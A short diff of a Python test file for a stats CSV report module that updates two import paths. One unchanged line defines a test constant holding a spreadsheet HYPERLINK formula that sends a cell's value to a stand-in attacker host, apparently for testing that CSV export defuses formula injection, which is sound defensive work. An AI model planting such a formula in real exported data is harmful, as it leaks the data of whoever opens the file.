@@ -10,8 +10,8 @@ from datetime import date
 import pytest
 import redis
 
-from engine.reports import stats_csv, stats_overview
-from engine.stats import Stats
+from engine.services.reports import stats_csv, stats_overview
+from engine.store.stats import Stats
 
 D1, D2, D3 = date(2026, 3, 2), date(2026, 3, 3), date(2026, 3, 4)
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
